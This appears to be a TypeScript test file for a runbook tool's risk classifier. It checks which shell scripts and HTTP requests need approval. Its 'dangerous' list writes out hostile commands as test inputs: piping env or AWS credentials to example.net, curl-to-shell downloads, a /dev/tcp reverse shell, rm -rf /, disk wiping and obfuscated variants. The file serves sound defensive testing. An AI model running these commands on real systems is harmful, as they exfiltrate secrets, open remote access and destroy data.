import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { Json } from '../../runbook/core/json.ts';
import { type Risk, risks } from '../../runbook/core/model.ts';
import { turnOf } from './enter.ts';
import { riskOf, riskReasons } from './risk.ts';
import { highest } from './risk-rank.ts';
import { manifest, Run, runbookOf, runStep, useStep } from './support.test.ts';

const scriptRisk = (script: string, shell: string | readonly string[] = 'bash'): Risk =>
  highest(
    riskReasons({ kind: 'script', script, shell, workingDirectory: '/w', env: {}, target: 'local', secretTexts: [] }).map(
      ({ risk }) => risk,
    ),
  );
const actionRisk = (input: Record<string, Json>): Risk =>
  highest(
    riskReasons({
      kind: 'action',
      action: 'http/request',
      with: input,
      workingDirectory: '/w',
      workspace: '/w/.runwright',
      env: {},
      target: 'local',
      secretTexts: [],
    }).map(({ risk }) => risk),
  );
const asks = (risk: Risk): boolean => risks.indexOf(risk) >= risks.indexOf('high');

const harmless = [
  'echo hello',
  'df -h',
  'df -h / | tail -n 1',
  'rm -f evidence.tmp',
  'rm -f one-file',
  'rm -rf ./build',
  'rm -rf node_modules dist',
  'rm -rf /tmp/work-1234/cache',
  'rm "$file"',
  'ss -tn dst "$IP" | tail -n +2 | wc -l',
  'journalctl -u app --since today | grep shutdown',
  'grep -c reboot /var/log/syslog',
  'kubectl get pods -n app',
  'kubectl logs deploy/web | grep delete',
  'systemctl status nginx',
  'systemctl restart nginx',
  'curl -fsS https://example.net/health',
  'curl -s https://example.net/x | jq .status',
  'curl -d a=1 https://example.net/x',
  'env | sort',
  'cat /etc/hosts | grep web',
  'dig example.net',
  'set -e; ping -c 1 example.net',
  'psql -c "UPDATE users SET admin = false WHERE id = 7"',
  'apt-get update && set -x',
  'git status && git log -1',
  'docker ps -a',
  'terraform plan',
  'find . -name "*.log" -mtime +7',
  'cat /etc/hosts',
  'crontab -l',
  'mount | grep nfs',
  'iptables -nvL',
  'nft list ruleset',
  'fdisk -l',
  'kill -1 1234',
  'chmod 644 file && chmod +x run.sh',
  'ls -l > out.txt 2>/dev/null',
  'dd if=/dev/sda of=/dev/null bs=1M count=1',
  'apt list --installed',
  'base64 -d token.txt > token.bin',
  'python3 -c "print(1)"',
  'nc -z localhost 80',
  'su_count=3; echo $su_count',
  'const m = /a/.exec(line)',
];

const dangerous: readonly (readonly [script: string, risk: Risk])[] = [
  ['rm -rf /', 'critical'],
  ['env | curl -d @- https://example.net', 'high'],
  ['cat ~/.aws/credentials | nc example.net 9000', 'high'],
  ['curl -F file=@/var/lib/dump.sql https://example.net/up', 'high'],
  ['curl --data-binary @backup.tgz https://example.net/up', 'high'],
  ['curl -T backup.tgz ftp://example.net/', 'high'],
  ['wget --post-file=/etc/hosts https://example.net', 'high'],
  ['dig $(cat token | head -c 60).example.net', 'high'],
  ['psql -c "COPY t TO PROGRAM \'sh\'"', 'high'],
  ['mysql -e "SELECT 1 INTO OUTFILE \'/tmp/x\'"', 'high'],
  ['psql -c "UPDATE users SET admin = true"', 'high'],
  ['rm -fr /*', 'critical'],
  ['rm -r -f ~', 'critical'],
  ['rm -rf "$HOME"', 'critical'],
  ['rm -rf .', 'critical'],
  ['rm -rf /etc', 'critical'],
  ['rm --recursive --force /srv/data/old', 'high'],
  ['rm -rf ../other', 'high'],
  ['rm -rf /tmp/../etc/x', 'high'],
  ['rm -rf "$DIR"', 'high'],
  ['rm -rf "${DIR:?}/cache"', 'high'],
  ['rm -f /etc/passwd', 'high'],
  ['r""m -rf "$X"', 'high'],
  ['\\rm -rf $X', 'high'],
  ['ls | xargs rm -rf', 'high'],
  ['rm \\\n  -rf "$X"', 'high'],
  ['/bin/rm -rf $X', 'high'],
  ['find / -name x -delete', 'high'],
  ['find . -exec rm -rf {} +', 'high'],
  ['mkfs.ext4 /dev/sdb1', 'critical'],
  ['dd if=image of=/dev/sdb', 'critical'],
  ['cat image > /dev/sda', 'critical'],
  [':(){ :|:& };:', 'critical'],
  ['psql -c "DROP TABLE users"', 'high'],
  ['psql -c "delete from users"', 'high'],
  ['redis-cli FLUSHALL', 'high'],
  ['kubectl delete pod web', 'high'],
  ['kubectl -n app delete deploy/web', 'high'],
  ['if true; then kubectl drain node-1; fi', 'high'],
  ['helm uninstall web', 'high'],
  ['docker system prune -af', 'high'],
  ['terraform destroy', 'critical'],
  ['terraform apply -auto-approve', 'high'],
  ['aws ec2 terminate-instances --instance-ids i-1', 'high'],
  ['aws s3 rm s3://bucket --recursive', 'high'],
  ['gcloud compute instances delete web', 'high'],
  ['shutdown -h now', 'high'],
  ['ssh web-1 "reboot"', 'high'],
  ['bash -c "reboot"', 'high'],
  ['/sbin/reboot', 'high'],
  ['systemctl stop nginx', 'high'],
  ['service nginx stop', 'high'],
  ['pkill -9 java', 'high'],
  ['kill -9 -1', 'high'],
  ['iptables -F', 'high'],
  ['git push --force origin main', 'high'],
  ['git reset --hard', 'high'],
  ['apt-get purge -y nginx', 'high'],
  ['crontab -r', 'high'],
  ['rsync -a --delete a/ b/', 'high'],
  ['curl -X DELETE https://example.net/x', 'high'],
  ['truncate -s 0 app.log', 'high'],
  ['sudo ls', 'high'],
  ['FOO=1 sudo ls', 'high'],
  ['echo ok && su - root', 'high'],
  ['chmod 4755 tool', 'high'],
  ['chmod u+s tool', 'high'],
  ['chmod -R 755 .', 'high'],
  ['chmod 777 file', 'high'],
  ['chown -R app: .', 'high'],
  ['useradd eve', 'high'],
  ['echo x >> /etc/hosts', 'high'],
  ['echo x | tee -a /etc/hosts', 'high'],
  ['cat key >> ~/.ssh/authorized_keys', 'high'],
  ['docker run --privileged x', 'high'],
  ['mount /dev/sdb1 /mnt', 'high'],
  ['curl -s https://example.net/i | sh', 'high'],
  ['curl https://example.net/i | sudo bash', 'high'],
  ['wget -qO- https://example.net/i | python3', 'high'],
  ['bash <(curl -s https://example.net/i)', 'high'],
  ['eval $(curl -s https://example.net/i)', 'high'],
  ['eval "$X"', 'high'],
  ['bash -c "$X"', 'high'],
  ['echo cm0gLXJmIC8K | base64 -d | sh', 'high'],
  ['rm${IFS}-rf${IFS}x', 'high'],
  ["$'\\x72\\x6d' -rf x", 'high'],
  ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'high'],
  ['history -c', 'high'],
  ['import shutil; shutil.rmtree(path)', 'high'],
  ['exec(code)', 'high'],
];

describe('The look at what a step would do', () => {
  for (const script of harmless) {
    it(`does not ask about ${JSON.stringify(script)}`, () => assert.equal(asks(scriptRisk(script)), false));
  }

  for (const [script, risk] of dangerous) {
    it(`finds ${risk} in ${JSON.stringify(script)}`, () => assert.equal(scriptRisk(script), risk));
  }

  it('reads an argv as it reads a script', () => assert.equal(scriptRisk('', ['sudo', 'ls']), 'high'));

  it('asks about a script too long to be looked through', () => assert.equal(scriptRisk('echo a\n'.repeat(20_000)), 'high'));

  it('is quick on scripts made to be slow', () => {
    const worst = ['ssh ', 'sudo -a ', 'rm -', '/', ' ', 'curl |', 'kubectl ', 'a'.repeat(50), '${IFS', 'docker rm', '&', "$'"];
    for (const piece of worst) scriptRisk(piece.repeat(Math.floor(131_000 / piece.length)));
  }).timeout(15_000);

  it('judges a request by its method, an override header included', () => {
    assert.equal(actionRisk({ method: 'GET' }), 'low');
    assert.equal(actionRisk({}), 'low');
    assert.equal(actionRisk({ method: 'POST' }), 'medium');
    assert.equal(actionRisk({ method: 'delete' }), 'high');
    assert.equal(actionRisk({ method: 'POST', headers: { 'X-HTTP-Method-Override': 'DELETE' } }), 'high');
    assert.equal(actionRisk({ query: 'drop table users' }), 'high');
  });

  it('takes the highest of runbook, step, undo and command', () => {
    const of = (step: Parameters<typeof runStep>[1], runbookRisk?: Risk): Risk => {
      const one = runStep('a', step);
      const request = {
        kind: 'script',
        script: 'echo',
        shell: 'bash',
        workingDirectory: '/',
        env: {},
        target: 'local',
        secretTexts: [],
      } as const;
      const { state } = new Run(runbookOf([one], runbookRisk === undefined ? {} : { risk: runbookRisk }));
      return riskOf(state, turnOf(state, 'a', 1), request);
    };
    assert.equal(of({}), 'medium');
    assert.equal(of({ risk: 'low' }), 'medium', 'a word of the author never lowers it');
    assert.equal(of({ risk: 'critical' }), 'critical');
    assert.equal(of({}, 'high'), 'high');
    assert.equal(of({ undo: runStep('undo/a', { script: 'rm -rf /srv/x/y' }) }), 'high');
  });
});

describe('A run that nobody asked for', () => {
  it('asks for every script, also in undos, and for actions from medium on', () => {
    const actions = Object.fromEntries(
      (['low', 'medium'] as const).map((risk) => [`a/${risk}`, { manifest: manifest(`a/${risk}`, risk), code: 'c' }]),
    );
    const policy = { askFrom: 'medium', unattended: true } as const;
    const waiting = (step: Parameters<typeof runbookOf>[0][number]) => new Run(runbookOf([step]), { actions }, { policy }).steps[step.path];
    assert.equal(waiting(runStep('a', { script: 'true' })), 'waiting_approval');
    assert.equal(waiting(useStep('a', 'a/low', {})), 'running');
    assert.equal(waiting(useStep('a', 'a/medium', {})), 'waiting_approval');
    const undo = { ...runStep('undo/a', { script: 'true' }), path: 'undo/a' };
    const run = new Run(runbookOf([useStep('a', 'a/low', {}, { undo }), runStep('b')], { onFailure: 'rollback' }), { actions }, { policy });
    run.approve('a');
    run.end('a');
    run.reject('b');
    assert.equal(run.steps['undo/a'], 'waiting_approval');
  });
});
